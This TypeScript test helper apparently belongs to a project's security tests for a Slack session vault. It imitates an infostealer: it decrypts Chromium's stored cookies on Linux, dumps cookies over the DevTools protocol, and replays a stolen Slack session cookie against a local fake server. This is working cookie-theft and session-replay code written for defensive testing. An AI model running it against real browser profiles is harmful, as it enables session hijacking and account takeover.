/**
 * What an infostealer does with a Chromium profile on Linux (issue #13), to prove the
 * session vault leaves it nothing: read `Default/Cookies` (SQLite) and decrypt it as
 * Chromium stores it (DESIGN.md: `v10`/`v11`, key PBKDF2-HMAC-SHA1 of the password with
 * salt `saltysalt`, 1 iteration, 16 bytes; AES-128-CBC with an IV of 16 spaces; newer
 * Chromium puts SHA-256 of the host key before the value), ask the browser itself over
 * the DevTools protocol, and replay what it found against Slack as a thief would.
 */
import type { BrowserContext } from '@playwright/test';
import Database from 'better-sqlite3';
import { createDecipheriv, createHash, pbkdf2Sync } from 'node:crypto';
import { existsSync } from 'node:fs';
import { request } from 'node:https';
import { join } from 'node:path';
import type { FakeSlack } from '../../fakes/fake-slack';

/** `peanuts` is the password of `--password-store=basic`; '' is v11's when the keyring answers nothing. */
const PASSWORDS = ['peanuts', ''];

function decrypt(hostKey: string, encrypted: Buffer): string | null {
  const version = encrypted.subarray(0, 3).toString('latin1');
  if (version !== 'v10' && version !== 'v11') return encrypted.length ? null : '';
  for (const password of PASSWORDS) {
    try {
      const key = pbkdf2Sync(password, 'saltysalt', 1, 16, 'sha1');
      const decipher = createDecipheriv('aes-128-cbc', key, Buffer.alloc(16, 0x20));
      let plain = Buffer.concat([decipher.update(encrypted.subarray(3)), decipher.final()]);
      const hostHash = createHash('sha256').update(hostKey).digest();
      if (plain.length >= 32 && plain.subarray(0, 32).equals(hostHash)) plain = plain.subarray(32);
      const text = plain.toString('utf8');
      if (/^[\x20-\x7e]*$/.test(text)) return text;
    } catch {
      // wrong password: try the next
    }
  }
  return null;
}

export interface StolenCookie {
  host: string;
  name: string;
  value: string | null;
}

/** Every Slack cookie in the profile's Cookies file, decrypted where it can be (run with the browser closed). */
export function stealFromCookiesFile(profileDir: string): StolenCookie[] {
  const file = join(profileDir, 'Default', 'Cookies');
  if (!existsSync(file)) return [];
  const db = new Database(file, { readonly: true, fileMustExist: true });
  try {
    const rows = db
      .prepare("SELECT host_key, name, value, encrypted_value FROM cookies WHERE host_key LIKE '%slack.com'")
      .all() as { host_key: string; name: string; value: string; encrypted_value: Buffer }[];
    return rows.map((row) => ({
      host: row.host_key,
      name: row.name,
      value: row.value || decrypt(row.host_key, row.encrypted_value),
    }));
  } finally {
    db.close();
  }
}

/** The browser's whole cookie jar over the DevTools protocol, as malware with a debugging port gets it. */
export async function stealOverDevTools(context: BrowserContext): Promise<StolenCookie[]> {
  const page = context.pages()[0] ?? (await context.newPage());
  const cdp = await context.newCDPSession(page);
  try {
    const { cookies } = (await cdp
      .send('Network.getAllCookies' as never)
      .catch(() => cdp.send('Storage.getCookies' as never))) as {
      cookies: { domain: string; name: string; value: string }[];
    };
    return cookies
      .filter((c) => c.domain.endsWith('slack.com'))
      .map((c) => ({ host: c.domain, name: c.name, value: c.value }));
  } finally {
    await cdp.detach().catch(() => undefined);
  }
}

/** Replays a stolen `d` from outside the browser: true when Slack serves the signed-in client for it. */
export function slackAccepts(fake: FakeSlack, value: string): Promise<boolean> {
  return new Promise((resolve, reject) => {
    const req = request(
      {
        host: '127.0.0.1',
        port: fake.port,
        path: '/client/T0SGUARD01',
        headers: { host: 'app.slack.com', cookie: `d=${value}` },
        rejectUnauthorized: false,
        servername: 'app.slack.com',
      },
      (res) => {
        res.resume();
        resolve(res.statusCode === 200);
      },
    );
    req.on('error', reject);
    req.end();
  });
}

/** The `d` values among the loot that Slack accepts: what a thief walks away with. */
export async function workingSessions(fake: FakeSlack, loot: StolenCookie[]): Promise<string[]> {
  const candidates = loot.filter((c) => c.name === 'd' && c.value).map((c) => c.value!);
  const results = await Promise.all(candidates.map((value) => slackAccepts(fake, value)));
  return candidates.filter((_, i) => results[i]);
}
